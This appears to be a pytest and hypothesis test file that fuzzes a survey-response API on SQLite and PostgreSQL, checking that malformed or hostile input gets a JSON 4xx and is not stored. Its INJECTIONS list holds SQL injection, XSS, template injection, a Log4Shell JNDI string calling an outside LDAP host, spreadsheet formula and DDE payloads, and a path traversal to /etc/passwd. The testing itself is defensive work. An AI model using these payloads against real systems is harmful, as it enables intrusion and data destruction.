"""Hostile input against ``POST /api/v1/responses``, on SQLite and PostgreSQL.

Random and malformed JSON, random bytes, invalid UTF-8, wrong types in every field, unknown items,
injection strings, NUL bytes and lone surrogates, deep nesting, huge numbers and huge bodies. Whatever
arrives, the answer is a JSON 4xx that says what is wrong and nothing is stored; or, when the mutated
submission happens to be valid, a 201 that stored exactly what :func:`validate_answers` accepts.
Property-based (hypothesis) with a fixed number of derandomised examples, so the run is repeatable.
"""

from __future__ import annotations

import copy
import io
import json
import unicodedata
import uuid

import pytest
from conftest import full_answers, submission
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select

from questionnaires import QuestionType, load_questionnaire
from survey.api import FIELDS
from survey.db import session_scope
from survey.models import Kiosk, Response
from survey.storage import normalise_instance_id
from survey.validation import validate_answers

pytestmark = pytest.mark.db

SIPAS_2017 = load_questionnaire("sipas-2017")
ITEMS = [q for q in SIPAS_2017.questions() if q.type.is_answerable]
ITEM_CODES = [q.code for q in ITEMS]
HOSTILE = settings(
    max_examples=40,
    derandomize=True,
    deadline=None,
    database=None,
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
    ],
)
# Strings that have broken other systems: SQL, markup, templates, formulas, paths, encodings.
INJECTIONS = [
    "'; DROP TABLE responses; --",
    "1' OR '1'='1",
    '" OR 1=1 --',
    "Robert'); DELETE FROM users WHERE ('a'='a",
    "<script>alert('xss')</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "javascript:alert(1)",
    "{{7*7}}{% raw %}${7*7}",
    "${jndi:ldap://203.0.113.1/a}",
    '=HYPERLINK("http://203.0.113.1","bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "../../../../etc/passwd",
    "%00%27%22",
    "\u202eRTL override\u202c",
    "Ông Nguyễn Văn A — “góp ý” 👍🏽",
    "\ufeffBOM ở đầu",
    "a" * 4000,
]
CONTROL = ["\x00", "a\x00b", "\x07bell", "\x1b[31mred", "\ud800", "lone \udfff surrogate", "\x7f"]

json_scalars = (
    st.none()
    | st.booleans()
    | st.integers(min_value=-(10**30), max_value=10**30)
    | st.floats(allow_nan=True, allow_infinity=True)
    | st.text(alphabet=st.characters(exclude_categories=()), max_size=30)
    | st.sampled_from(INJECTIONS + CONTROL)
)
json_values = st.recursive(
    json_scalars,
    lambda children: (
        st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=10), children, max_size=4)
    ),
    max_leaves=10,
)


# ------------------------------------------------------------------------------------------ fixtures
class Api:
    def __init__(self, app, token: str):
        self.app = app
        self.token = token
        self.client = app.test_client()

    def post(self, body=None, *, raw: bytes | str | None = None, **kwargs):
        if raw is None:
            raw = json.dumps(body, ensure_ascii=True)  # lone surrogates travel as \\udXXX escapes
        reply = self.client.post(
            "/api/v1/responses",
            data=raw,
            content_type=kwargs.pop("content_type", "application/json"),
            **kwargs,
        )
        assert reply.status_code < 500, reply.get_data(as_text=True)
        assert reply.is_json, reply.get_data(as_text=True)[:300]
        assert b"Traceback" not in reply.data
        return reply

    def count(self) -> int:
        with self.app.app_context(), session_scope() as session:
            return session.scalar(select(func.count(Response.id)))

    def stored(self, instance_id: str) -> Response | None:
        with self.app.app_context(), session_scope() as session:
            return session.scalars(select(Response).where(Response.instance_id == instance_id)).one_or_none()

    def valid(self, **extra) -> dict:
        body = submission(SIPAS_2017, self.token, full_answers(SIPAS_2017))
        body.update(extra)
        return body

    def refused(self, reply, *statuses: int) -> dict:
        assert reply.status_code in (statuses or (400,)), (reply.status_code, reply.get_json())
        data = reply.get_json()
        if reply.status_code == 400:
            assert data["errors"] and all(e["message"] and e["code"] for e in data["errors"]), data
        else:
            assert data["status"] == "error" and data["message"], data
        return data


@pytest.fixture
def api(app, make_campaign) -> Api:
    _, tokens = make_campaign("sipas-2017", kiosk_units=("tra-xuan",))
    return Api(app, tokens["tra-xuan"])


def _last_seen(api: Api):
    with api.app.app_context(), session_scope() as session:
        return session.scalars(select(Kiosk.last_seen_at)).one()


# ----------------------------------------------------------------------------------- random bodies
@HOSTILE
@given(value=json_values)
def test_any_json_value_as_the_body_is_a_clear_4xx(api, value):
    api.refused(api.post(value), 400, 401)
    if isinstance(value, dict):
        # With a valid token the same body is judged on its fields: 400, never a crash.
        body = {**value, "kiosk_token": api.token}
        api.refused(api.post(body), 400)
    assert api.count() == 0


@HOSTILE
@given(raw=st.binary(max_size=3000))
def test_random_bytes_are_a_clear_4xx(api, raw):
    api.refused(api.post(raw=raw), 400, 401)
    assert api.count() == 0


MALFORMED = (
    b'{"instance_id": "\xff\xfe"}',
    b"\xef\xbb\xbf{}",
    b'{"a": "\xed\xa0\x80"}',  # a UTF-8 encoded surrogate
    b"",
    b"null",
    b"[]",
    b'"just a string"',
    b"{'single': 'quotes'}",
    b'{"a": 1,}',
    b'{"a": NaN, "b": Infinity, "c": -Infinity}',
    b'{"a": 1' + b"0" * 5000 + b"}",  # beyond Python's digit limit for int()
    b"\x00" * 64,
)


def test_malformed_and_invalid_utf8_bodies_are_400(api):
    for raw in MALFORMED:
        api.refused(api.post(raw=raw), 400, 401)
    assert api.count() == 0


@pytest.mark.parametrize(
    "content_type", ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]
)
def test_other_content_types_do_not_slip_through(api, content_type):
    raw = json.dumps(api.valid())
    reply = api.post(raw=raw, content_type=content_type)
    # The kiosk sends JSON; a body that parses as JSON is judged on its content, whatever the header.
    assert reply.status_code in (201, 400, 401)
    assert api.count() == (1 if reply.status_code == 201 else 0)


# ----------------------------------------------------------------------------- mutated submissions
@st.composite
def mutations(draw):
    """A valid submission with one to three fields or answers replaced, added or removed."""
    changes = []
    for _ in range(draw(st.integers(1, 3))):
        where = draw(st.sampled_from(["field", "answer", "new_answer", "drop_answer", "drop_field"]))
        if where == "field":
            changes.append(
                ("field", draw(st.sampled_from(sorted(FIELDS - {"kiosk_token"}))), draw(json_values))
            )
        elif where == "answer":
            changes.append(
                (
                    "answer",
                    draw(st.sampled_from(ITEM_CODES)),
                    draw(json_values | st.sampled_from(["1", "5", 3])),
                )
            )
        elif where == "new_answer":
            changes.append(("answer", draw(st.text(max_size=12)), draw(json_values)))
        elif where == "drop_answer":
            changes.append(("drop_answer", draw(st.sampled_from(ITEM_CODES)), None))
        else:
            changes.append(("drop_field", draw(st.sampled_from(sorted(FIELDS - {"kiosk_token"}))), None))
    return changes


def _apply(body: dict, changes) -> dict:
    body = copy.deepcopy(body)
    for kind, key, value in changes:
        if kind == "field":
            body[key] = value
        elif kind == "drop_field":
            body.pop(key, None)
        elif isinstance(body.get("answers"), dict):
            if kind == "answer":
                body["answers"][key] = value
            else:
                body["answers"].pop(key, None)
    return body


@HOSTILE
@given(changes=mutations())
def test_a_mutated_submission_is_stored_exactly_as_validated_or_not_at_all(api, changes):
    body = _apply(api.valid(), changes)
    before = api.count()
    seen = _last_seen(api)
    reply = api.post(body)
    if reply.status_code == 201:
        # Only a submission the validator accepts may be stored, and exactly as it normalises it.
        expected, errors = validate_answers(SIPAS_2017, body["answers"], group=body.get("group"))
        assert errors == []
        row = api.stored(normalise_instance_id(body["instance_id"]))
        assert row is not None and row.answers == expected
        assert api.count() == before + 1
    else:
        api.refused(reply, 400)
        assert api.count() == before
        assert _last_seen(api) == seen  # the kiosk's "last seen" is written with a response or not at all


def _wrong_for(question):
    """Values that can never be a valid answer to ``question``."""
    kind = question.type
    if kind is QuestionType.SINGLE:
        codes = set(SIPAS_2017.choice_list(question).codes)
        return json_values.filter(
            lambda v: (
                v not in (None, "", [])
                and not (isinstance(v, str | int) and not isinstance(v, bool) and str(v).strip() in codes)
            )
        )
    if kind is QuestionType.INTEGER:
        return json_values.filter(
            lambda v: (
                v not in (None, "", [])
                and not (isinstance(v, int) and not isinstance(v, bool) and 1 <= v <= 20)
                and not (isinstance(v, str) and v.strip().lstrip("+-").isdigit())
                and not (isinstance(v, float) and v.is_integer() and 1 <= v <= 20)
            )
        )
    if kind is QuestionType.TEXT:
        return json_values.filter(
            lambda v: v not in (None, "", []) and not isinstance(v, str)
        ) | st.sampled_from([c for c in CONTROL if c.strip()] + ["x" * 4001])
    return json_values.filter(lambda v: v not in (None, "", []) and not isinstance(v, str))


ANSWERED = [q for q in ITEMS if not q.type.is_metadata and q.code in full_answers(SIPAS_2017)]


@settings(HOSTILE, max_examples=120)
@given(case=st.sampled_from(ANSWERED).flatmap(lambda q: st.tuples(st.just(q), _wrong_for(q))))
def test_a_wrong_value_for_an_item_is_named_in_the_400(api, case):
    question, value = case
    body = api.valid()
    body["answers"][question.code] = value
    data = api.refused(api.post(body), 400)
    assert question.code in {e["item"] for e in data["errors"]}, data
    assert api.count() == 0


@HOSTILE
@given(key=st.text(min_size=1, max_size=40).filter(lambda k: k not in ITEM_CODES))
def test_unknown_items_are_named(api, key):
    body = api.valid()
    body["answers"][key] = "4"
    data = api.refused(api.post(body), 400)
    assert [e for e in data["errors"] if e["code"] == "unknown_item"][0]["item"] == key
    assert api.count() == 0


@HOSTILE
@given(key=st.text(min_size=1, max_size=20).filter(lambda k: k not in FIELDS))
def test_unknown_fields_are_named(api, key):
    body = api.valid()
    body[key] = "x"
    data = api.refused(api.post(body), 400)
    assert {"item": key, "code": "unknown_field"}.items() <= data["errors"][0].items()
    assert api.count() == 0


# ------------------------------------------------------------------------------ injection strings
def test_injection_strings_are_ordinary_free_text(api):
    for n, text in enumerate(INJECTIONS, start=1):
        body = api.valid()
        body["answers"]["gop_y"] = text
        reply = api.post(body)
        assert reply.status_code == 201, reply.get_json()
        row = api.stored(body["instance_id"])
        assert row.answers["gop_y"] == unicodedata.normalize("NFC", text.strip())
        assert api.count() == n  # and the tables are all still there


@pytest.mark.parametrize(
    "field", ["instance_id", "unit", "stratum", "group", "questionnaire", "version", "started_at"]
)
def test_injection_and_control_strings_in_submission_fields_are_400(api, field):
    expected = "questionnaire" if field == "version" else field  # the version is the questionnaire's
    for text in INJECTIONS + CONTROL:
        data = api.refused(api.post(api.valid(**{field: text})), 400)
        assert expected in {e["item"] for e in data["errors"]}, (text, data)
    assert api.count() == 0


def test_injection_and_control_strings_as_the_kiosk_token_are_401_or_403(api):
    for text in INJECTIONS + CONTROL + ["", " ", api.token + "\x00", "\x00" + api.token, api.token.upper()]:
        api.refused(api.post(api.valid(kiosk_token=text)), 401, 403)
        header = "Bearer " + text.encode("utf-8", "replace").decode("latin-1").replace("\x00", "?")
        api.refused(api.post(api.valid(kiosk_token=None), headers={"Authorization": header}), 401, 403)
    assert api.count() == 0


def test_nul_bytes_and_surrogates_in_answers_are_400_not_a_database_error(api):
    for text in CONTROL:
        for item in ("gop_y", "linh_vuc", "so_lan_di_lai", "bat_dau"):
            body = api.valid()
            body["answers"][item] = text
            data = api.refused(api.post(body), 400)
            assert item in {e["item"] for e in data["errors"]}, (item, text)
        body = api.valid()
        body["answers"][text] = "4"  # as an item code
        api.refused(api.post(body), 400)
    assert api.count() == 0


# ---------------------------------------------------------------------------------- deep and large
@pytest.mark.parametrize("shape", ["lists", "objects", "in_answers", "in_an_answer"])
def test_deep_nesting_is_400_not_a_recursion_error(api, shape):
    for depth in (100, 900, 10_000, 100_000):
        if shape == "lists":
            raw = "[" * depth + "]" * depth
        elif shape == "objects":
            raw = '{"a":' * depth + "1" + "}" * depth
        else:
            nested = "[" * depth + '"4"' + "]" * depth
            body = json.dumps(api.valid())
            if shape == "in_answers":
                raw = body.replace('"answers": {', '"answers": {"x": ' + nested + ", ", 1)
            else:
                raw = body.replace('"tiep_can_1": "', '"tiep_can_1": ' + nested + ', "tiep_can_0": "', 1)
        api.refused(api.post(raw=raw), 400, 401, 413)  # 100,000 levels of objects are over 512 KB
    assert api.count() == 0


def test_extreme_numbers_in_an_integer_item(api):
    for value in (
        "1" + "0" * 400,
        "1e400",
        "-1e400",
        "1e-400",
        "123456789012345678901234567890",
        "-0",
        "0.5",
    ):
        raw = json.dumps(api.valid()).replace('"so_lan_di_lai": 2', '"so_lan_di_lai": ' + value)
        assert '"so_lan_di_lai": ' + value in raw
        data = api.refused(api.post(raw=raw), 400)
        assert "so_lan_di_lai" in {e["item"] for e in data["errors"]}, value
    assert api.count() == 0


def test_a_body_over_the_limit_is_413_json_and_nothing_is_stored(make_app, make_campaign):
    app = make_app(MAX_CONTENT_LENGTH=4096)
    _, tokens = make_campaign("sipas-2017")
    api = Api(app, tokens["tra-xuan"])
    body = api.valid()
    body["answers"]["gop_y"] = "ý kiến dài " * 500
    reply = api.post(body)
    assert reply.status_code == 413 and reply.get_json()["error"] == "too_large"
    # The same without a Content-Length (a chunked upload, which gunicorn marks as terminated): still
    # refused once the limit is passed, never read to the end.
    big = json.dumps(body).encode()
    reply = api.client.post(
        "/api/v1/responses",
        input_stream=io.BytesIO(big),
        headers={"Content-Type": "application/json", "Transfer-Encoding": "chunked"},
        environ_overrides={"wsgi.input_terminated": True},
    )
    assert reply.status_code == 413 and reply.is_json
    # A huge body made of one deep structure or one long string: also 413, before any parsing.
    for raw in ("[" * 100_000, json.dumps({"x": "a" * 100_000})):
        reply = api.post(raw=raw)
        assert reply.status_code == 413 and reply.get_json()["error"] == "too_large"
    assert api.count() == 0
    small = api.valid()
    assert api.post(small).status_code == 201  # the limit still lets real submissions in


def test_text_over_the_length_limit_is_400(api):
    body = api.valid()
    body["answers"]["gop_y"] = "đ" * 4001
    data = api.refused(api.post(body), 400)
    assert data["errors"][0]["item"] == "gop_y" and data["errors"][0]["code"] == "too_long"
    assert api.count() == 0


def test_after_all_that_a_valid_submission_still_goes_through(api):
    for raw in ("[" * 10_000, "\x00", "{"):
        api.post(raw=raw)
    body = api.valid(instance_id="uuid:" + str(uuid.uuid4()).upper())
    reply = api.post(body)
    assert reply.status_code == 201
    assert api.post(body).status_code == 200  # the retry is a duplicate
    assert api.count() == 1
